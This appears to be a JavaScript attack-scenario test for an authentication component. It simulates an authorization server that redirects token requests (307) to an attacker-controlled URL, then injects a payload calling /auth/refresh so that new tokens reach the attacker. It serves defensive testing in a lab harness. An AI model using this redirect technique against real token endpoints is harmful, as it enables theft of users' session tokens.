import { attack } from "../attack.js";

export default attack({
  name: "uses a redirect of the token endpoint to its own server",
  threat: "acquisition of new tokens",
  target: "strongroom",
  async payload() {
    await fetch("/auth/refresh", { method: "POST" });
  },
  async play(stage) {
    const { testing } = stage.lab.authorizationServer;
    const location = `${stage.facts.attackerUrl}${stage.attackerPath}/token`;
    await stage.openSignedIn();
    testing.tokenEndpoint.fail({ status: 307, headers: { location } }, Number.POSITIVE_INFINITY);
    try {
      await stage.inject();
    } finally {
      testing.tokenEndpoint.reset();
    }
  },
});
